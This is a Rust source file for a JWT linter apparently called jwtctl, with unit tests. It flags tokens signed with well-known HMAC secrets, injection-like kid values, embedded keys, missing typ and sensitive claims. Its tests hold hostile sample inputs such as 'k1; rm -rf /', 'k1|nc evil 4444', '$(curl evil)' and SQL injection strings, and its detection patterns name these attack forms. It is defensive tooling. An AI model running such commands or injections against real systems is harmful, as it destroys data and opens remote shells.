//! The security lint: what a reviewer would point out in a token, as warnings with codes.
//! Pure functions over a parsed token; none of them prints a secret or a claim's value.

use crate::claims::Warning;
use crate::escape;
use crate::token::{Kind, Token};
use crate::verify::Alg;
use serde_json::{Map, Value};
use std::collections::HashMap;
use std::sync::Mutex;

// SECRET_BYTES and SECRET_ENDS, the list of src/weak_secrets.txt, PREPARED, their HMAC-SHA256
// keys sixteen to a group, and SORTED, the list's places in byte order without repeats
// (build.rs).
include!(concat!(env!("OUT_DIR"), "/weak_secrets.rs"));

/// The secret at place `i` of the list.
fn secret(i: usize) -> &'static str {
    let start = i.checked_sub(1).map_or(0, |j| usize::from(SECRET_ENDS[j]));
    &SECRET_BYTES[start..usize::from(SECRET_ENDS[i])]
}

/// The list's secrets, in its order.
#[cfg(test)]
fn secrets() -> impl ExactSizeIterator<Item = &'static str> + Clone {
    (0..SECRET_ENDS.len()).map(secret)
}

/// Every lint that applies to `token`, the weak-secret search through `weak`.
pub fn lint(token: &Token, weak: &WeakSecrets) -> Vec<Warning> {
    let mut out = Vec::new();
    if token.kind == Kind::Jws
        && let Some(w) = weak.search(token)
    {
        out.push(w);
    }
    out.extend(lint_but_secret(token));
    out
}

/// Every lint but the weak-secret search (for verify, which knows the secret that signed).
pub fn lint_but_secret(token: &Token) -> Vec<Warning> {
    let mut out = Vec::new();
    let [kid, typ, _] = header_lints(token);
    out.extend(kid.clone());
    // A JWE's typ names what it encrypts, and is not judged.
    if token.kind != Kind::Jwe {
        out.extend(typ.clone());
    }
    // Rare: a plain header or payload (most) repeats no name.
    let names = token.header.repeated();
    if !names.is_empty() {
        out.push(repeated("duplicate_header", "the header", names));
    }
    if let Some(claims) = token.claim_set() {
        let names = claims.repeated();
        if !names.is_empty() {
            out.push(repeated("duplicate_claim", "the payload", names));
        }
        if claims.maybe_sensitive() {
            out.extend(sensitive_claims(claims.map()));
        }
    }
    out
}

/// `duplicate_header`, `duplicate_claim`: names `part` gives more than once. Parsers differ on
/// which value counts (the last, the first, or neither: RFC 7515 §4 and RFC 7519 §4 let them
/// refuse the token), so the token may mean one thing here and another to its verifier.
fn repeated(code: &'static str, part: &str, names: &[String]) -> Warning {
    let list: Vec<String> = names
        .iter()
        .map(|name| format!("\"{}\"", escape::text(name)))
        .collect();
    Warning::new(
        code,
        format!(
            "{part} gives {} more than once: jwtctl takes the last value, as many parsers do, \
             but others take the first or refuse the token, so it may be read differently where it \
             is checked. A token is not to repeat a name; have its issuer fix it.",
            list.join(", ")
        ),
    )
}

/// What the header alone earns, judged once for the tokens that share it (the parser keeps
/// one header per issuer and thread): `suspicious_kid`, `no_typ`/`unusual_typ` (which a JWE's
/// caller leaves out) and `embedded_key`.
pub fn header_lints(token: &Token) -> &[Option<Warning>; 3] {
    token.header.lints(|| {
        [
            token.header_get("kid").and_then(suspicious_kid),
            typ(token.header_get("typ")),
            embedded_key(token),
        ]
    })
}

/// Header parameters that carry a key or point at one.
const EMBEDDED: [&str; 4] = ["jwk", "jku", "x5u", "x5c"];

/// `embedded_key`: a header that carries a key, or a URL to fetch one from.
fn embedded_key(token: &Token) -> Option<Warning> {
    let embedded: Vec<&str> = EMBEDDED
        .into_iter()
        .filter(|k| token.header_get(k).is_some())
        .collect();
    (!embedded.is_empty()).then(|| {
        Warning::new(
            "embedded_key",
            format!(
                "the header carries {}: a key or key URL chosen by whoever made the token. jwtctl never trusts \
                 or fetches it; verify only with keys you supply (--key, --jwks, --oidc-issuer).",
                embedded.join(", ")
            ),
        )
    })
}

/// Whether `secret` is on the list of well-known secrets, as an HMAC key: HMAC pads a key
/// shorter than its block with zero bytes, so `secret` and `secret\0` sign alike.
pub fn is_well_known(candidate: &[u8]) -> bool {
    let mut key = candidate;
    if key.len() <= 64 {
        while let [rest @ .., 0] = key {
            key = rest;
        }
    }
    SORTED
        .binary_search_by(|&i| secret(usize::from(i)).as_bytes().cmp(key))
        .is_ok()
}

/// Whether the list's secret at `i` signs `input` as `signature` under HMAC `alg`.
fn secret_matches(alg: Alg, i: usize, input: &[u8], signature: &[u8]) -> bool {
    if alg == Alg::HS256 {
        return PREPARED[i / 16].key(i % 16).verify(input, signature);
    }
    alg.hmac_algorithm().is_some_and(|algorithm| {
        let key = aws_lc_rs::hmac::Key::new(algorithm, secret(i).as_bytes());
        aws_lc_rs::hmac::verify(&key, input, signature).is_ok()
    })
}

/// The place in the list of the first secret whose HMAC of `input` under `alg` is `signature`.
/// HS256 pads the message once and tries the secrets' prepared keys, eight or sixteen at a time
/// where the CPU allows. (Splitting the search over two threads was tried: on a VM, waking the
/// second vCPU cost a one-token run more than the half of the search it took.)
fn first_match(alg: Alg, input: &[u8], signature: &[u8]) -> Option<usize> {
    if alg == Alg::HS256 {
        return crate::hmac_sha256::Message::new(input).position_in(
            &PREPARED,
            SECRET_ENDS.len(),
            signature,
        );
    }
    (0..SECRET_ENDS.len()).find(|&i| secret_matches(alg, i, input, signature))
}

/// The weak-secret search over a run's tokens. Trying every well-known secret costs ~2,600
/// HMACs, so the result is remembered per key identity (the header as written and the `iss`):
/// a secret once found is tried first (one HMAC, then the full search if it no longer matches),
/// and an identity whose token matched no secret is not searched again. The lint is about the
/// issuer's key: a token that copies a strong issuer's header and iss but is signed with a
/// well-known secret is not that issuer's token, and verify reports its bad signature.
pub struct WeakSecrets {
    /// Keyed by the header segment, then `.` and the iss when there is one (a base64url segment
    /// holds no dot, so the two parts cannot run together).
    memo: Mutex<HashMap<String, Option<usize>>>,
    /// Tells this search's entry in a thread's [`LAST_IDENTITY`] from another's.
    id: u64,
}

impl Default for WeakSecrets {
    fn default() -> Self {
        static NEXT: std::sync::atomic::AtomicU64 = std::sync::atomic::AtomicU64::new(0);
        WeakSecrets {
            memo: Mutex::default(),
            id: NEXT.fetch_add(1, std::sync::atomic::Ordering::Relaxed),
        }
    }
}

type LastIdentity = (u64, String, Option<String>, Option<usize>);

/// Identities remembered at most; past this, tokens of new identities are each searched.
const MEMO_LIMIT: usize = 1024;

thread_local! {
    /// The last identity this thread looked up, and what was found: the search's id, the header
    /// segment, the iss, the secret's place in the list.
    static LAST_IDENTITY: std::cell::RefCell<Option<LastIdentity>> =
        const { std::cell::RefCell::new(None) };
}

impl WeakSecrets {
    pub fn new() -> Self {
        WeakSecrets::default()
    }

    /// `weak_secret`: an HS token whose signature one of the well-known secrets reproduces.
    pub fn search(&self, token: &Token) -> Option<Warning> {
        let alg = token.algorithm().filter(|a| a.is_hmac())?;
        if token.signature.is_empty() {
            return None;
        }
        let input = token.signing_input();
        // One secret tried again: the identity's last find.
        let matches = |i: usize| secret_matches(alg, i, input, &token.signature);
        let header =
            &token.raw[..crate::bytes::find(b'.', token.raw.as_bytes()).unwrap_or(token.raw.len())];
        let iss = token.claim_set().and_then(|c| c.get_str("iss"));
        // Tokens of one identity come in runs: the last one this thread saw is checked first,
        // without the shared memo's lock and hash.
        let last = LAST_IDENTITY.with_borrow(|last| {
            last.as_ref()
                .filter(|(id, h, i, _)| *id == self.id && h == header && i.as_deref() == iss)
                .map(|(.., found)| *found)
        });
        match last {
            Some(None) => return None,
            Some(Some(i)) if matches(i) => return Some(weak_secret_warning(alg)),
            _ => {}
        }
        let remember = |found: Option<usize>| {
            LAST_IDENTITY.set(Some((
                self.id,
                header.to_string(),
                iss.map(str::to_string),
                found,
            )));
        };
        let mut identity = String::with_capacity(header.len() + 1 + iss.map_or(0, str::len));
        identity.push_str(header);
        if let Some(iss) = iss {
            identity.push('.');
            identity.push_str(iss);
        }
        let remembered = {
            let memo = self.memo.lock().unwrap_or_else(|e| e.into_inner());
            memo.get(&identity).copied()
        };
        let found = match remembered {
            Some(None) => None,
            Some(Some(i)) if matches(i) => Some(i),
            _ => {
                let found = first_match(alg, input, &token.signature);
                let mut memo = self.memo.lock().unwrap_or_else(|e| e.into_inner());
                if memo.len() < MEMO_LIMIT || remembered.is_some() {
                    memo.insert(identity, found);
                }
                found
            }
        };
        remember(found);
        found.map(|_| weak_secret_warning(alg))
    }
}

/// The `weak_secret` warning. The secret itself is never named: output stays free of anything
/// secret-shaped.
pub fn weak_secret_warning(alg: Alg) -> Warning {
    Warning::new(
        "weak_secret",
        format!(
            "the {} signature is made with a well-known secret from jwtctl's list of defaults and common \
             passwords: anyone can forge tokens. Rotate to a random secret of at least {} bytes.",
            alg.name(),
            alg.min_secret()
        ),
    )
}

/// `suspicious_kid`: a kid that looks like path traversal, SQL or shell injection.
fn suspicious_kid(kid: &Value) -> Option<Warning> {
    let Value::String(kid) = kid else {
        return Some(Warning::new(
            "suspicious_kid",
            "kid is not a string: a server that passes it to a lookup unchecked may misbehave. kid must be a string.",
        ));
    };
    // The usual kid (letters, digits, `_`, `-`, `.`; no `..` or `--`; no "union") can match none
    // of the patterns below.
    let b = kid.as_bytes();
    if b.len() <= 256
        && b.iter()
            .all(|&c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'.'))
        && !b.windows(2).any(|w| w == b".." || w == b"--")
        && !b.windows(5).any(|w| w.eq_ignore_ascii_case(b"union"))
    {
        return None;
    }
    let lower = kid.to_ascii_lowercase();
    let why = if kid.contains("..")
        || kid.starts_with('/')
        || kid.starts_with('\\')
        || lower.contains("/etc/")
        || lower.contains("/dev/")
    {
        "path traversal"
    } else if lower.contains("union") && lower.contains("select")
        || lower.contains("' or")
        || lower.contains("'or")
        || lower.contains("--")
        || lower.contains(";")
        || kid.contains('\'')
        || kid.contains('"')
    {
        "SQL injection"
    } else if kid
        .chars()
        .any(|c| matches!(c, '|' | '&' | '`' | '$' | '<' | '>'))
    {
        "shell injection"
    } else if kid.chars().any(escape::is_unsafe) || kid.len() > 256 {
        "control characters or an absurd length"
    } else {
        return None;
    };
    Some(Warning::new(
        "suspicious_kid",
        format!(
            "kid \"{}\" looks like {why}: a server that puts kid into a file path, SQL query or command is \
             exploitable. Treat kid as an opaque key into a fixed key set.",
            escape::text(&kid.chars().take(80).collect::<String>())
        ),
    ))
}

/// `no_typ` / `unusual_typ` for a JWS's `typ`: RFC 8725 §3.11 asks for explicit typing to keep
/// token kinds apart.
fn typ(typ: Option<&Value>) -> Option<Warning> {
    match typ {
        None => Some(Warning::new(
            "no_typ",
            "the header has no typ: nothing tells this token from another kind signed with the same key \
             (RFC 8725 §3.11). Issuers should set typ, e.g. JWT or at+jwt.",
        )),
        Some(Value::String(t)) => {
            let is = |name: &str| t.eq_ignore_ascii_case(name);
            let known = is("jwt")
                || is("jose")
                || is("application/jwt")
                || t.len() >= 4 && t.as_bytes()[t.len() - 4..].eq_ignore_ascii_case(b"+jwt")
                || is("jose+json");
            (!known).then(|| {
                Warning::new(
                    "unusual_typ",
                    format!(
                        "typ \"{}\" is not a JWT media type: a verifier that checks typ will refuse the token.",
                        escape::text(t)
                    ),
                )
            })
        }
        Some(_) => Some(Warning::new("unusual_typ", "typ is not a string.")),
    }
}

/// The last two letters of every name in [`SENSITIVE_NAMES`].
const SENSITIVE_ENDINGS: [[u8; 2]; 8] = [
    *b"rd", *b"wd", *b"et", *b"ey", *b"sn", *b"er", *b"vv", *b"in",
];

/// For each letter, by its low five bits (the same in either case), the letters that end a
/// listed name after it, as bits by their low five bits: one look rules out most names.
const ENDING_TABLE: [u32; 32] = {
    let mut table = [0u32; 32];
    let mut i = 0;
    while i < SENSITIVE_ENDINGS.len() {
        let [a, b] = SENSITIVE_ENDINGS[i];
        table[(a & 31) as usize] |= 1 << (b & 31);
        i += 1;
    }
    table
};

const SENSITIVE_NAMES: [&str; 14] = [
    "password",
    "passwd",
    "pwd",
    "secret",
    "client_secret",
    "api_key",
    "apikey",
    "private_key",
    "ssn",
    "credit_card",
    "card_number",
    "cardnumber",
    "cvv",
    "pin",
];

/// `sensitive_claim`: claim names and values that look like secrets or card numbers.
fn sensitive_claims(claims: &Map<String, Value>) -> Vec<Warning> {
    let mut found = Vec::new();
    walk(claims, "", 0, &mut found);
    found
        .into_iter()
        .take(5)
        .map(|(path, what)| {
            Warning::new(
                "sensitive_claim",
                format!(
                    "claim \"{}\" {what}: a JWT payload is only base64-encoded, so anyone holding the token can read it. \
                     Keep secrets and personal data out of tokens.",
                    escape::text(&path)
                ),
            )
        })
        .collect()
}

fn walk(
    map: &Map<String, Value>,
    prefix: &str,
    depth: usize,
    found: &mut Vec<(String, &'static str)>,
) {
    if depth > 8 || found.len() >= 5 {
        return;
    }
    let path = |name: &str| {
        if prefix.is_empty() {
            name.to_string()
        } else {
            format!("{prefix}.{name}")
        }
    };
    for (name, value) in map {
        let what = if sensitive_name(name) {
            Some("is named like a secret or personal data")
        } else if let Value::String(s) = value {
            if looks_like_card(s) {
                Some("holds what looks like a payment card number")
            } else if looks_like_ssn(s) {
                Some("holds what looks like a US social security number")
            } else {
                None
            }
        } else {
            None
        };
        if let Some(what) = what {
            found.push((path(name), what));
        }
        if let Value::Object(inner) = value {
            walk(inner, &path(name), depth + 1, found);
        }
    }
}

/// A name among [`SENSITIVE_NAMES`], or ending in `_name` or `-name`, in any case.
pub fn sensitive_name(name: &str) -> bool {
    sensitive_name_bytes(name.as_bytes())
}

/// [`sensitive_name`] over a name's bytes. The quick test is inlined where every key of a
/// payload is read.
#[inline]
pub fn sensitive_name_bytes(name: &[u8]) -> bool {
    // Every listed name ends in one of these pairs of letters (a test holds the list to them):
    // most names are ruled out at once, by a table that lets through every case of each pair.
    let [.., a, b] = *name else {
        return false;
    };
    ENDING_TABLE[usize::from(a & 31)] & (1 << (b & 31)) != 0
        && SENSITIVE_ENDINGS.contains(&[a.to_ascii_lowercase(), b.to_ascii_lowercase()])
        && listed_name(name)
}

fn listed_name(name: &[u8]) -> bool {
    SENSITIVE_NAMES.iter().any(|s| {
        let s = s.as_bytes();
        if name.len() == s.len() {
            name.eq_ignore_ascii_case(s)
        } else {
            name.len() > s.len()
                && name[name.len() - s.len()..].eq_ignore_ascii_case(s)
                && matches!(name[name.len() - s.len() - 1], b'_' | b'-')
        }
    })
}

/// Whether a string value may be a card or social security number. Quick tests first: most
/// values are ruled out by their length or first byte, the rest by one pass over their bytes
/// (both forms are digits with spaces or dashes, 13–19 digits for a card, 9 for an SSN). The
/// quick tests are inlined where every string of a payload is read.
#[inline]
pub fn card_or_ssn(s: &[u8]) -> bool {
    (11..=40).contains(&s.len())
        && matches!(s[0], b'0'..=b'9' | b' ' | b'-')
        && card_or_ssn_digits(s)
}

fn card_or_ssn_digits(s: &[u8]) -> bool {
    let mut digits = 0;
    // Eight digits at a time while the string has them (a long numeric id is all digits).
    let mut words = s.chunks_exact(8);
    let mut rest = words.remainder();
    for (n, word) in (&mut words).enumerate() {
        if crate::bytes::non_digits(word.try_into().unwrap_or_default()) != 0 {
            rest = &s[n * 8..];
            break;
        }
        digits += 8;
        if digits > 19 {
            return false;
        }
    }
    for &c in rest {
        match c {
            b'0'..=b'9' => digits += 1,
            b' ' | b'-' => {}
            _ => return false,
        }
        // More digits than a card has (a long numeric id): no need to read on.
        if digits > 19 {
            return false;
        }
    }
    ((13..=19).contains(&digits) || digits == 9 && s.len() == 11)
        && std::str::from_utf8(s).is_ok_and(|s| looks_like_card(s) || looks_like_ssn(s))
}

/// 13–19 digits (spaces and dashes allowed) passing the Luhn check.
pub fn looks_like_card(s: &str) -> bool {
    if s.len() > 40
        || !s
            .chars()
            .all(|c| c.is_ascii_digit() || c == ' ' || c == '-')
    {
        return false;
    }
    // Counted before they are collected: most digit strings (ids, times) have too many.
    if !(13..=19).contains(&s.bytes().filter(u8::is_ascii_digit).count()) {
        return false;
    }
    let digits: Vec<u32> = s.chars().filter_map(|c| c.to_digit(10)).collect();
    if !(13..=19).contains(&digits.len()) || digits.iter().all(|&d| d == digits[0]) {
        return false;
    }
    let sum: u32 = digits
        .iter()
        .rev()
        .enumerate()
        .map(|(i, &d)| {
            if i % 2 == 1 {
                if d * 2 > 9 { d * 2 - 9 } else { d * 2 }
            } else {
                d
            }
        })
        .sum();
    sum.is_multiple_of(10)
}

pub fn looks_like_ssn(s: &str) -> bool {
    let b = s.as_bytes();
    b.len() == 11
        && b[3] == b'-'
        && b[6] == b'-'
        && b.iter()
            .enumerate()
            .all(|(i, c)| i == 3 || i == 6 || c.is_ascii_digit())
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The quick test of a name's last two letters lets every listed name through.
    #[test]
    fn sensitive_endings_cover_the_list() {
        for name in SENSITIVE_NAMES {
            let b = name.as_bytes();
            assert!(
                SENSITIVE_ENDINGS.contains(&[b[b.len() - 2], b[b.len() - 1]]),
                "{name}"
            );
            assert!(sensitive_name(name) && sensitive_name(&name.to_uppercase()));
            assert!(sensitive_name(&format!("user_{name}")));
        }
        assert!(!sensitive_name("aud") && !sensitive_name("d") && !sensitive_name(""));
        // The table lets through each ending in every case, whatever bytes come before it.
        for a in 0..=255u8 {
            for b in 0..=255u8 {
                if SENSITIVE_ENDINGS.contains(&[a.to_ascii_lowercase(), b.to_ascii_lowercase()]) {
                    assert!(ENDING_TABLE[usize::from(a & 31)] & (1 << (b & 31)) != 0);
                    let name = [b'x', b'_', a, b];
                    assert_eq!(sensitive_name_bytes(&name), listed_name(&name));
                }
            }
        }
    }
    use base64::Engine as _;
    use base64::engine::general_purpose::URL_SAFE_NO_PAD;

    fn signed(secret: &[u8], header: &str, payload: &str) -> Token {
        let input = format!(
            "{}.{}",
            URL_SAFE_NO_PAD.encode(header),
            URL_SAFE_NO_PAD.encode(payload)
        );
        let key = aws_lc_rs::hmac::Key::new(aws_lc_rs::hmac::HMAC_SHA256, secret);
        let sig = aws_lc_rs::hmac::sign(&key, input.as_bytes());
        crate::token::parse(&format!("{input}.{}", URL_SAFE_NO_PAD.encode(sig.as_ref()))).unwrap()
    }

    fn codes(t: &Token) -> Vec<&'static str> {
        lint(t, &WeakSecrets::new())
            .iter()
            .map(|w| w.code)
            .collect()
    }

    #[test]
    fn well_known_secrets_are_found_and_never_printed() {
        for secret in ["secret", "your-256-bit-secret", "password", "keyboard cat"] {
            let t = signed(secret.as_bytes(), r#"{"alg":"HS256","typ":"JWT"}"#, "{}");
            let w = lint(&t, &WeakSecrets::new());
            assert_eq!(
                w.iter().map(|w| w.code).collect::<Vec<_>>(),
                ["weak_secret"],
                "{secret}"
            );
            if secret.len() > 8 {
                assert!(
                    !w[0].message.contains(secret),
                    "the secret must not be printed"
                );
            }
        }
        let strong = signed(
            b"r4nd0m-and-long-enough-to-be-a-real-secret!",
            r#"{"alg":"HS256","typ":"JWT"}"#,
            "{}",
        );
        assert!(codes(&strong).is_empty());
    }

    /// The build script's table is the list, each secret with the key the HMAC module makes of it.
    #[test]
    fn the_compiled_list_holds_each_secret_prepared() {
        let list = include_str!("weak_secrets.txt");
        let listed: Vec<&str> = list
            .lines()
            .filter(|l| !l.is_empty() && !l.starts_with("# "))
            .collect();
        assert!(listed.len() > 2000);
        assert_eq!(secrets().collect::<Vec<_>>(), listed);
        assert_eq!(secret(0), "secret");
        let mut sorted = listed.clone();
        sorted.sort_unstable();
        sorted.dedup();
        let by_place: Vec<&str> = SORTED.iter().map(|&i| secret(usize::from(i))).collect();
        assert_eq!(by_place, sorted);
        // Each secret's key, sixteen to a group, the last group filled up with the last.
        assert_eq!(PREPARED.len(), listed.len().div_ceil(16));
        for (g, group) in PREPARED.iter().enumerate() {
            for lane in 0..16 {
                let secret = listed[(g * 16 + lane).min(listed.len() - 1)];
                assert_eq!(
                    group.key(lane),
                    crate::hmac_sha256::Key::new(secret.as_bytes()),
                    "{secret}"
                );
            }
        }
    }

    /// The first, a middle and the last secret on the list are found, each at its first place.
    #[test]
    fn the_search_finds_any_place_in_the_list() {
        let n = secrets().len();
        for alg in [Alg::HS256, Alg::HS384, Alg::HS512] {
            let algorithm = alg.hmac_algorithm().expect("an HMAC algorithm");
            let input = b"eyJhbGciOiJIUzI1NiJ9.e30";
            for i in [0, 1, n / 2, n - 1] {
                let key = aws_lc_rs::hmac::Key::new(algorithm, secret(i).as_bytes());
                let tag = aws_lc_rs::hmac::sign(&key, input);
                let first = secrets().position(|s| s == secret(i));
                assert_eq!(first_match(alg, input, tag.as_ref()), first, "{alg:?} {i}");
            }
            assert_eq!(first_match(alg, input, &[0; 32]), None);
        }
    }

    #[test]
    fn the_search_remembers_each_key_identity() {
        let header = r#"{"alg":"HS256","typ":"JWT"}"#;
        let weak = WeakSecrets::new();
        let strong = b"r4nd0m-and-long-enough-to-be-a-real-secret!";
        let search = |secret: &[u8], payload: &str| {
            weak.search(&signed(secret, header, payload))
                .map(|w| w.code)
        };
        // One issuer with a well-known secret: found for each token, by whichever secret.
        assert_eq!(
            search(b"secret", r#"{"iss":"a","n":1}"#),
            Some("weak_secret")
        );
        assert_eq!(
            search(b"secret", r#"{"iss":"a","n":2}"#),
            Some("weak_secret")
        );
        assert_eq!(
            search(b"password", r#"{"iss":"a","n":3}"#),
            Some("weak_secret")
        );
        // Another issuer with a strong secret: searched once, then remembered as clean.
        assert_eq!(search(strong, r#"{"iss":"b"}"#), None);
        assert_eq!(search(b"secret", r#"{"iss":"b","forged":true}"#), None);
        // Another issuer, or none, is another identity.
        assert_eq!(search(b"secret", r#"{"iss":"c"}"#), Some("weak_secret"));
        assert_eq!(search(b"secret", "{}"), Some("weak_secret"));
        // What one search remembers is its own: a new one on this thread searches afresh.
        assert_eq!(search(b"secret", r#"{"iss":"b","again":1}"#), None);
        let fresh = WeakSecrets::new();
        let forged = signed(b"secret", header, r#"{"iss":"b","again":1}"#);
        assert_eq!(fresh.search(&forged).map(|w| w.code), Some("weak_secret"));
    }

    #[test]
    fn kids() {
        for (kid, why) in [
            ("../../../../dev/null", "path traversal"),
            ("/etc/passwd", "path traversal"),
            ("x' UNION SELECT 'key", "SQL injection"),
            ("k1; rm -rf /", "SQL injection"),
            ("k1|nc evil 4444", "shell injection"),
            ("$(curl evil)", "shell injection"),
            ("1UnionSelect2", "SQL injection"),
            ("key--1", "SQL injection"),
            ("k..1", "path traversal"),
            (&"k".repeat(257), "absurd length"),
        ] {
            let w = suspicious_kid(&Value::from(kid)).unwrap();
            assert!(w.message.contains(why), "{kid}: {}", w.message);
        }
        for fine in [
            "2024-01-rsa",
            "k1",
            "a1b2c3d4e5f6",
            "https:__keys.example_1",
        ] {
            assert!(suspicious_kid(&Value::from(fine)).is_none(), "{fine}");
        }
        assert!(suspicious_kid(&Value::from(5)).is_some());
    }

    #[test]
    fn sensitive_claims_name_the_claim_not_the_value() {
        let t = signed(
            b"r4nd0m-and-long-enough-to-be-a-real-secret!",
            r#"{"alg":"HS256","typ":"JWT"}"#,
            r#"{"sub":"u","password":"hunter2","profile":{"card":"4111 1111 1111 1111","ssn":"x"},"n":"078-05-1120","id":"1234567890123"}"#,
        );
        let w = lint(&t, &WeakSecrets::new());
        let paths: Vec<_> = w
            .iter()
            .map(|w| w.message.split('"').nth(1).unwrap().to_string())
            .collect();
        assert_eq!(paths, ["password", "profile.card", "profile.ssn", "n"]);
        assert!(
            w.iter()
                .all(|w| !w.message.contains("hunter2") && !w.message.contains("4111"))
        );
    }

    /// The plain parser's quick look lets through every payload the full walk would warn about,
    /// wherever the claim sits, and rules out the usual clean payload.
    #[test]
    fn plain_payloads_flagged_for_the_sensitive_walk_whenever_it_finds_something() {
        let payloads = [
            r#"{"password":1}"#,
            r#"{"a":{"b":{"Client_Secret":null}}}"#,
            r#"{"a":[{"x-api_key":"v"}]}"#,
            r#"{"a":[1,"4111 1111 1111 1111"]}"#,
            r#"{"n":"078-05-1120"}"#,
            r#"{"deep":{"card":"5500-0000-0000-0004"}}"#,
            r#"{"sub":"u","exp":1800000900,"jti":"00000000000000000000000000000000"}"#,
            r#"{"iss":"https://auth.example.com","aud":["api","web"],"scope":"read write"}"#,
            r#"{"pin_code":"1234","key":"secretive","n":"078051120"}"#,
        ];
        for payload in payloads {
            let t = signed(
                b"a-strong-secret",
                r#"{"alg":"HS256","typ":"JWT"}"#,
                payload,
            );
            let claims = t.claim_set().unwrap();
            assert!(claims.as_written().is_some(), "{payload} is plain");
            let found = !sensitive_claims(claims.map()).is_empty();
            assert!(claims.maybe_sensitive() || !found, "{payload}");
        }
        let clean = signed(b"k", r#"{"alg":"HS256"}"#, payloads[6]);
        assert!(!clean.claim_set().unwrap().maybe_sensitive());
        let card = signed(b"k", r#"{"alg":"HS256"}"#, payloads[3]);
        assert!(card.claim_set().unwrap().maybe_sensitive());
    }

    /// The header's lints are judged once for the tokens that share it; a JWE that shares a
    /// JWS's header still gets no typ warning, and the JWS still does, in either order.
    #[test]
    fn header_lints_are_shared_but_not_with_a_jwe() {
        // A header of its own (the parser keeps headers per thread), with an odd kid and no typ.
        let header = "eyJhbGciOiJIUzI1NiIsImtpZCI6Ii4uLy4uL2V0Yy9wYXNzd2QiLCJ4Ijoic2hhcmVkIn0";
        let jws = format!("{header}.e30.c2ln");
        let jwe = format!("{header}.ZW5j.aXY.Y3Q.dGFn");
        let codes = |text: &str| -> Vec<&'static str> {
            let t = crate::token::parse(text).unwrap();
            lint_but_secret(&t).iter().map(|w| w.code).collect()
        };
        for _ in 0..2 {
            assert_eq!(codes(&jws), ["suspicious_kid", "no_typ"]);
            assert_eq!(codes(&jwe), ["suspicious_kid"]);
        }
        // The JWE first.
        let header = "eyJhbGciOiJIUzI1NiIsImtpZCI6Ii4uLy4uL2V0Yy9wYXNzd2QiLCJ4Ijoib3RoZXIifQ";
        for _ in 0..2 {
            assert_eq!(
                codes(&format!("{header}.ZW5j.aXY.Y3Q.dGFn")),
                ["suspicious_kid"]
            );
            assert_eq!(
                codes(&format!("{header}.e30.c2ln")),
                ["suspicious_kid", "no_typ"]
            );
        }
    }

    #[test]
    fn typ() {
        let none = signed(
            b"r4nd0m-and-long-enough-to-be-a-real-secret!",
            r#"{"alg":"HS256"}"#,
            "{}",
        );
        assert_eq!(codes(&none), ["no_typ"]);
        let odd = signed(
            b"r4nd0m-and-long-enough-to-be-a-real-secret!",
            r#"{"alg":"HS256","typ":"text/html"}"#,
            "{}",
        );
        assert_eq!(codes(&odd), ["unusual_typ"]);
        let at = signed(
            b"r4nd0m-and-long-enough-to-be-a-real-secret!",
            r#"{"alg":"HS256","typ":"at+jwt"}"#,
            "{}",
        );
        assert!(codes(&at).is_empty());
    }

    #[test]
    fn every_sensitive_name_passes_the_last_letter_check() {
        for name in SENSITIVE_NAMES {
            assert!(sensitive_name(name), "{name}");
            assert!(
                sensitive_name(&format!("x-{}", name.to_uppercase())),
                "{name}"
            );
        }
        assert!(!sensitive_name("spin_rate") && !sensitive_name("tenant"));
    }

    #[test]
    fn a_listed_secret_is_known_with_or_without_padding() {
        assert!(is_well_known(b"secret"));
        assert!(is_well_known(b"secret\0\0"));
        assert!(!is_well_known(
            b"r4nd0m-and-long-enough-to-be-a-real-secret!"
        ));
    }

    /// The quick test the payload reader runs on every string says what the full checks say:
    /// strings of digits, spaces, dashes and a letter, of every length around the edges (11 for
    /// an SSN, 13–19 digits for a card, 40 bytes), and long numeric ids.
    #[test]
    fn the_quick_card_and_ssn_test_agrees_with_the_full_one() {
        let mut seed = 0x2545_f491_u64;
        let mut next = |n: u64| {
            seed = seed
                .wrapping_mul(6364136223846793005)
                .wrapping_add(1442695040888963407);
            (seed >> 33) % n
        };
        let mut cases: Vec<String> = vec![
            "4111111111111111".into(),
            "4111 1111 1111 1111".into(),
            "123-45-6789".into(),
            "0".repeat(32),
            "1".repeat(20),
            "4111111111111111".repeat(2),
        ];
        for _ in 0..50_000 {
            let len = next(46);
            cases.push(
                (0..len)
                    .map(|_| {
                        b"0123456789012345678901234567890123456789 -x"[next(43) as usize] as char
                    })
                    .collect(),
            );
        }
        let mut cards = 0;
        for s in &cases {
            let full = looks_like_card(s) || looks_like_ssn(s);
            assert_eq!(card_or_ssn(s.as_bytes()), full, "{s:?}");
            cards += usize::from(full);
        }
        assert!(cards > 100, "the cases include cards: {cards}");
    }

    #[test]
    fn luhn() {
        assert!(looks_like_card("4111111111111111"));
        assert!(looks_like_card("5500-0000-0000-0004"));
        assert!(!looks_like_card("4111111111111112"));
        assert!(!looks_like_card("1800000000"));
        assert!(!looks_like_card("0000000000000000"));
    }
}
